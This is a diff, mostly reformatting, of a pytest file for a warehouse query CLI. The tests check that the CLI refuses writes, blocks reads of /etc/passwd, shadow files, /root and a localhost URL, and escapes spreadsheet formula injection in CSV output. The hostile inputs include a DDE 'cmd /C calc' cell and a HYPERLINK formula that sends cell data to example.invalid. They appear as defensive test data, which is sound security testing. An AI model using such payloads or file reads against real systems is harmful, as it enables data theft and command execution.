@@ -104,8 +104,9 @@ WRITE_ATTEMPTS = [
 
 
 @pytest.mark.parametrize("sql", WRITE_ATTEMPTS)
-def test_query_refuses_every_write(bundled_warehouse: Settings, tmp_path: Path, sql: str,
-                                   capsys: pytest.CaptureFixture[str]) -> None:
+def test_query_refuses_every_write(
+    bundled_warehouse: Settings, tmp_path: Path, sql: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     out = tmp_path / "out"
     out.mkdir()
     before = fingerprint(bundled_warehouse)
@@ -133,21 +134,30 @@ def outside(tmp_path: Path) -> Path:
     return folder
 
 
-@pytest.mark.parametrize("sql, refused", [
-    ("select * from read_blob('{outside}/shadow')", "shadow"),
-    ("select * from read_blob('/etc/passwd')", "/etc/passwd"),
-    ("select * from read_csv('/etc/passwd')", "/etc/passwd"),
-    ("select * from read_csv('{outside}/shadow')", "shadow"),
-    ("select * from read_text('{outside}/shadow')", "shadow"),
-    ("select * from read_text('/etc/passwd')", "/etc/passwd"),
-    ("select * from glob('/root/*')", "/root/*"),
-    ("select * from glob('{outside}/*')", "outside/*"),
-    ("select * from read_parquet('{outside}/other/lake/*.parquet')", "other/lake"),
-    ("select * from read_csv('http://127.0.0.1:1/x.csv')", "http://127.0.0.1:1/x.csv"),
-])
-def test_query_reads_nothing_outside_the_warehouse(bundled_warehouse: Settings, outside: Path, tmp_path: Path,
-                                                   monkeypatch: pytest.MonkeyPatch, sql: str, refused: str,
-                                                   capsys: pytest.CaptureFixture[str]) -> None:
+@pytest.mark.parametrize(
+    "sql, refused",
+    [
+        ("select * from read_blob('{outside}/shadow')", "shadow"),
+        ("select * from read_blob('/etc/passwd')", "/etc/passwd"),
+        ("select * from read_csv('/etc/passwd')", "/etc/passwd"),
+        ("select * from read_csv('{outside}/shadow')", "shadow"),
+        ("select * from read_text('{outside}/shadow')", "shadow"),
+        ("select * from read_text('/etc/passwd')", "/etc/passwd"),
+        ("select * from glob('/root/*')", "/root/*"),
+        ("select * from glob('{outside}/*')", "outside/*"),
+        ("select * from read_parquet('{outside}/other/lake/*.parquet')", "other/lake"),
+        ("select * from read_csv('http://127.0.0.1:1/x.csv')", "http://127.0.0.1:1/x.csv"),
+    ],
+)
+def test_query_reads_nothing_outside_the_warehouse(
+    bundled_warehouse: Settings,
+    outside: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    sql: str,
+    refused: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
     monkeypatch.setenv("HOME", str(tmp_path))  # where DuckDB would install the httpfs extension
     capsys.readouterr()
     assert run_cli(bundled_warehouse, "query", sql.format(outside=outside), "--format", "csv") == cli.EXIT_USAGE
@@ -161,28 +171,40 @@ def test_query_reads_nothing_outside_the_warehouse(bundled_warehouse: Settings, 
 # --- PIVOT / UNPIVOT read ----------------------------------------------------------------------------
 def test_pivot_over_a_view_is_a_read(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
     capsys.readouterr()
-    sql = ("pivot (select billing_code, payer_group from coverage_matrix where billing_code = '0440T') "
-           "on payer_group using count(*) group by billing_code")
+    sql = (
+        "pivot (select billing_code, payer_group from coverage_matrix where billing_code = '0440T') "
+        "on payer_group using count(*) group by billing_code"
+    )
     assert run_cli(bundled_warehouse, "query", sql, "--format", "csv") == cli.EXIT_OK
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert len(rows) == 1 and rows[0]["billing_code"] == "0440T"
     assert {rows[0][g] for g in ("aetna", "bcbs", "cigna", "unitedhealthcare", "medicare")} == {"1"}
 
 
-@pytest.mark.parametrize("sql", [
-    "with p as (pivot coverage_matrix on payer_group using count(*) group by billing_code) select * from p",
-    "select * from (pivot coverage_matrix on payer_group using count(*) group by billing_code)",
-    "pivot coverage_matrix on payer_group in ('aetna', 'cigna') using count(*) group by billing_code",
-    "unpivot (select 1 as a, 2 as b) on a, b into name k value v",
-    "/* pivot */ pivot coverage_matrix on payer_group using count(*) group by billing_code -- done",
-])
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "with p as (pivot coverage_matrix on payer_group using count(*) group by billing_code) select * from p",
+        "select * from (pivot coverage_matrix on payer_group using count(*) group by billing_code)",
+        "pivot coverage_matrix on payer_group in ('aetna', 'cigna') using count(*) group by billing_code",
+        "unpivot (select 1 as a, 2 as b) on a, b into name k value v",
+        "/* pivot */ pivot coverage_matrix on payer_group using count(*) group by billing_code -- done",
+    ],
+)
 def test_pivot_forms_are_reads(bundled_warehouse: Settings, sql: str, capsys: pytest.CaptureFixture[str]) -> None:
     assert run_cli(bundled_warehouse, "query", sql, "--format", "json") == cli.EXIT_OK, capsys.readouterr().err
 
 
 # --- CSV for spreadsheets ------------------------------------------------------------------------------
-FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=2+2",
-            "-2+3", "=2+2", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=2+2",
+    "-2+3",
+    "=2+2",
+    "\r=1+1",
+]
 
 
 def csv_cells(settings: Settings, capsys: pytest.CaptureFixture[str], sql: str, *flags: str) -> list[list[str]]:
@@ -192,8 +214,9 @@ def csv_cells(settings: Settings, capsys: pytest.CaptureFixture[str], sql: str, 
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
-def test_csv_cells_a_spreadsheet_would_run_are_escaped(bundled_warehouse: Settings, formula: str,
-                                                       capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(
+    bundled_warehouse: Settings, formula: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     literal = formula.replace("'", "''")
     header, row = csv_cells(bundled_warehouse, capsys, f"select '{literal}' as cell, ['{literal}'] as list")
     assert header == ["cell", "list"] and row == ["'" + formula, "'" + formula]
@@ -202,9 +225,12 @@ def test_csv_cells_a_spreadsheet_would_run_are_escaped(bundled_warehouse: Settin
 
 
 def test_csv_numbers_stay_numbers(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
-    header, row = csv_cells(bundled_warehouse, capsys,
-                            "select -12.5 as amount, -12.5::double as ratio, -3 as count, '-12.5' as text_number, "
-                            "'+4' as plus, '-1e5' as exponent, '-12.5%' as percent, 'a=b' as inner, '-' as dash")
+    header, row = csv_cells(
+        bundled_warehouse,
+        capsys,
+        "select -12.5 as amount, -12.5::double as ratio, -3 as count, '-12.5' as text_number, "
+        "'+4' as plus, '-1e5' as exponent, '-12.5%' as percent, 'a=b' as inner, '-' as dash",
+    )
     assert row == ["-12.5", "-12.5", "-3", "-12.5", "+4", "-1e5", "'-12.5%", "a=b", "'-"]
 
 
@@ -223,9 +249,12 @@ def test_query_starts_without_importing_prefect_or_the_build(bundled_warehouse: 
     import subprocess
     import sys
 
-    code = ("import sys; from flows import cli; "
-            f"code = cli.main(['query', 'select count(*) from catalog', '--warehouse', {str(bundled_warehouse.warehouse_dir)!r}]); "
-            "print(code, 'prefect' in sys.modules, 'flows.steps.warehouse' in sys.modules)")
-    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
-                            cwd=Path(cli.__file__).parent.parent)
+    code = (
+        "import sys; from flows import cli; "
+        f"code = cli.main(['query', 'select count(*) from catalog', '--warehouse', {str(bundled_warehouse.warehouse_dir)!r}]); "
+        "print(code, 'prefect' in sys.modules, 'flows.steps.warehouse' in sys.modules)"
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=Path(cli.__file__).parent.parent
+    )
     assert result.stdout.strip().splitlines()[-1] == "0 False False", result.stderr
